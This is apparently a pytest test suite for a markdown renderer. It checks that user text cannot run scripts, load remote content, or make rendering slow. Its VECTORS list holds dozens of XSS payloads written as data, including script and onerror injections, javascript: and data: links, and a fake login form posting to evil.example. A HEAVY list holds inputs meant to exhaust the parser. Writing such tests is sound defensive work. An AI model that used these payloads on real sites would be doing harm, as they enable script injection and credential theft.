"""What a stranger writes shows as text: it runs nothing, loads nothing, and none of it disappears."""

import re
import time
from html.parser import HTMLParser

import pytest

from annotate.lib.budget import UNITS_PER_REQUEST, request_budget
from annotate.lib.markdown import (
    ATTRIBUTES,
    CLASSES,
    MAX_COST,
    TAGS,
    _rendered,
    as_written,
    cost,
    render,
    visible,
)
from annotate.lib.markdown.inline import LINK

VECTORS = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.png">
![pixel](https://evil.example/pixel.png)
![pixel](https://evil.example/pixel.png "a title")
![pixel](data:image/svg+xml;base64,PHN2Zz4=)
![a ![b](https://evil.example/b.png)](https://evil.example/a.png)
[click](javascript:alert(1))
[click](JaVaScRiPt:alert(1))
[click](&#106;avascript:alert(1))
[click](java&Tab;script:alert(1))
[click](\x01javascript:alert(1))
[click](vbscript:msgbox(1))
[click](data:text/html,<script>alert(1)</script>)
[click](file:///etc/passwd)
[click](//evil.example)
[click](/account/logout/)
[click](?page=2)
[click](https://example.org" onmouseover="alert(1))
[click](<https://example.org" onclick="alert(1)>)
[click](https://example.org "x\\" onclick=\\"alert(1)")
[click]: javascript:alert(1)
<javascript:alert(1)>
<https://example.org/"onclick="alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=https://example.org style="position:fixed;inset:0">x</a>
<div style="background:url(https://evil.example/)">x</div>
<style>body{display:none}</style>
<link rel=stylesheet href=https://evil.example/x.css>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=https://evil.example></object><embed src=https://evil.example>
<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form action=https://evil.example><input name=password><button>Log in</button></form>
<input autofocus onfocus=alert(1)>
<base href=https://evil.example>
<meta http-equiv=refresh content="0;url=https://evil.example">
<!-- comment --><!DOCTYPE html><?php echo 1 ?><![CDATA[x]]>
<video><source onerror=alert(1)></video><audio src=https://evil.example autoplay></audio>
<details open ontoggle=alert(1)>
<template><script>alert(1)</script></template>
</div></main></body></html>
&lt;script&gt;alert(1)&lt;/script&gt;
`<script>alert(1)</script>`
``` "><script>alert(1)</script>
*<script>* _</script>_
| <img src=x onerror=alert(1)> | b |
hx-get="/" <b hx-get=/account/logout/ hx-trigger=load data-opens=key-help id=main class=site>x</b>
{{ request.user }} {% load static %}
""".splitlines()


class Strict(HTMLParser):
    """Fails on whatever a reader's browser would act on."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            if tag == "a" and name in {"rel", "target"}:
                assert value == {"rel": "noopener noreferrer nofollow", "target": "_blank"}[name]
            elif name == "class":
                assert value in CLASSES[tag]
            else:
                assert name in ATTRIBUTES.get(tag, set()), (tag, name)
            if name == "href":
                assert LINK.match(value or ""), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize(
    "frame", ["{}", "> {}", "- {}\n- x", "| a |\n|---|\n| {} |", "# {}", "```\n{}\n```", "[{}](https://x.y)"]
)
def test_nothing_runs_and_nothing_loads(vector: str, frame: str) -> None:
    html = render(frame.format(vector))
    parser = Strict()
    parser.feed(html)
    parser.close()


def test_raw_html_is_read_as_it_was_written() -> None:
    assert render('<b onclick="x()">hi</b>') == '<p dir="auto">&lt;b onclick="x()"&gt;hi&lt;/b&gt;</p>\n'


def test_an_image_is_the_text_it_was_written_as() -> None:
    html = render("See ![two & *cats*](https://x.y/c.png)!")
    assert html == '<p dir="auto">See ![two &amp; <em>cats</em>](https://x.y/c.png)!</p>\n'


def test_a_link_opens_elsewhere_and_tells_nobody_where_it_was() -> None:
    html = render('[a](https://x.y "b") <mailto:a@b.c>')
    assert '>a</a> (https://x.y "b") &lt;<a href="mailto:a@b.c"' in html
    assert html.count('target="_blank"') == html.count('rel="noopener noreferrer nofollow"') == 2


def test_what_markdown_would_swallow_stays() -> None:
    assert "[1]: https://x.y" in re.sub(r"<[^>]+>", "", render("[1]: https://x.y"))
    assert "a word in the fence" in render("``` a word in the fence\ncode\n```")
    deep = "> " * 60 + "at the bottom"
    assert "at the bottom" in render(deep)
    assert "at the bottom" in render("- " * 60 + "at the bottom")


def test_line_breaks_and_spaces_are_left_to_the_style_sheet() -> None:
    assert render("Roses  are red\nViolets are blue") == '<p dir="auto">Roses  are red\nViolets are blue</p>\n'


def test_code_and_tables_are_kept() -> None:
    assert (
        render("```python\nif a < b:\n    pass\n```")
        == '<pre class="fenced" dir="ltr"><small>python</small><code dir="ltr">if a &lt; b:\n    pass\n</code></pre>\n'
    )
    html = render("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |")
    assert re.findall(r'<td.*?(?:class="([^"]*)".*?)?>(.)', html) == [("", "1"), ("to-right", "2"), ("to-center", "3")]


@pytest.mark.parametrize("block", ["{}", "# {}", "> {}", "- {}", "1. {}", "a\n\n{}", "| {} |\n|---|\n| {} |"])
def test_each_block_finds_its_own_direction(block: str) -> None:
    """A child without a direction takes the one of the block around it, which then is decided by the child's text."""
    html = render(block.format("\u05e9\u05dc\u05d5\u05dd", "\u05e9"))
    before = html[: html.index("\u05e9\u05dc")]
    opened = [tag for tag in re.findall(r"<(?!/)[^>]+>", before) if not tag.startswith("<span")]
    closed = before.count("</p>")
    assert 'dir="auto"' in "".join(opened[closed:])


def test_code_runs_from_left_to_right() -> None:
    assert '<code dir="ltr">x = 1</code>' in render("\u05e9 `x = 1`")
    assert '<pre dir="ltr"><code dir="ltr">' in render("\u05e9\n\n    x = 1\n")


@pytest.mark.parametrize(
    ("written", "top", "levels"),
    [
        ("# a\n## b\n# c", 3, "343"),
        ("### a\n# b\n###### c\n## d", 3, "3344"),
        ("# a\n## b\n### c\n#### d\n##### e", 3, "34566"),
    ],
)
def test_headings_stand_below_the_page_and_skip_no_level(written: str, top: int, levels: str) -> None:
    html = render(written, top_heading=top)
    assert "".join(re.findall(r"<h(\d) ", html)) == levels
    assert "".join(re.findall(r"</h(\d)>", html)) == levels


def test_the_same_text_gives_the_same_html() -> None:
    text = "\n".join(VECTORS)
    assert render(text) == render(text)


HEAVY = [
    "A *sentence* with `code` and a [link](https://x.y).\n" * 4_000,
    "> " * 40 + "a\n" + "lazy\n" * 40_000,
    "[" * 200_000,
    "[a](b" * 40_000,
    "[a](https://b(c)" * 12_000,
    "![[" * 66_000,
    "![a" * 60_000,
    "*a_ " * 50_000,
    "*1 " * 60_000,
    "*- - - -~~~" * 18_000,
    "> " * 100_000,
    "- " * 100_000,
    "<![CDATA[" * 22_000,
    "<http://" * 25_000,
    "`" * 100_000 + "a" + "`" * 99_999,
    "".join("`" * length + " " for length in range(600)),
    "|a" * 50_000 + "\n" + "|-" * 50_000 + "\n" + "|\n" * 20_000,
    "| a\n|-" + " " * 190_000 + "x",
    "- - - - - - - - a\n" + "\n" * 190_000 + "                 b",
    "\u202ea" * 100_000,
]


@pytest.mark.parametrize("text", HEAVY, ids=lambda text: text[:9])
def test_the_time_for_a_text_grows_with_its_length_alone(text: str) -> None:
    """Unbounded, each takes less than two seconds; what is quadratic takes minutes."""
    began = time.process_time()
    _rendered(text, 3)
    assert time.process_time() - began < 5


@pytest.mark.parametrize("text", HEAVY, ids=lambda text: text[:9])
def test_a_text_that_costs_too_much_is_shown_as_it_was_written(text: str) -> None:
    assert cost(text) > MAX_COST
    assert render(text) == as_written(text)


def test_nine_candidates_a_prompt_and_a_guideline_fit_into_a_request() -> None:
    text = "Some **bold** words of a `long` text.\n" * 280
    assert MAX_COST * 0.2 < cost(text) <= MAX_COST
    assert 12 * MAX_COST <= UNITS_PER_REQUEST
    with request_budget():
        assert len({render(f"{text}{number}").count("<strong>") for number in range(11)}) == 1


def test_what_no_longer_fits_into_a_request_is_shown_as_it_was_written() -> None:
    text = "*a* " * 500
    with request_budget(3 * cost(text)):
        shown = [render(text) for _ in range(4)]
    assert [html.startswith("<pre") for html in shown] == [False, False, False, True]
    # The cache makes no difference, and the next request begins with a budget of its own.
    with request_budget(cost(text)):
        assert render(text) == shown[0]
    assert render(text) == shown[0]


def test_characters_that_nobody_sees_are_shown_in_one_pass() -> None:
    """A pass for each of the 4,000 kinds of them takes seconds."""
    few = "a\u202e\u200b\x00\x01\u2066" * 500 + "".join(map(chr, range(0xE0000, 0xE0080))) * 40
    many = "".join(map(chr, [*range(0x2060, 0x2070), *range(0xE0000, 0xE0100), *range(0xE01F0, 0xE1000)])) * 50
    began = time.process_time()
    assert visible(few).count("<mark>") == 5 * 500 + 128 * 40
    for _text in range(10):
        assert visible(many).count("\N{REPLACEMENT CHARACTER}") == len(many)
    assert time.process_time() - began < 0.5


@pytest.mark.parametrize("unit", ["\n- ", " \n", "\n1. ", "\n  - a"])
def test_finding_out_what_texts_cost_is_paid_for_too(unit: str) -> None:
    texts = [f"{unit * (110_000 // len(unit))}{number}" for number in range(60)]
    began = time.process_time()
    with request_budget():
        assert all(render(text).startswith("<pre") for text in texts)
    assert time.process_time() - began < 0.6


@pytest.mark.parametrize("address", ["http://[", "http://1.2.3.999/", "https://%", "http://a:99999", "http:///"])
def test_a_link_that_leads_nowhere_is_text(address: str) -> None:
    assert render(f"[*a b*]({address}) <{address}> c") == (
        f'<p dir="auto">[<em>a b</em>] ({address}) &lt;{address}&gt; c</p>\n'
    )
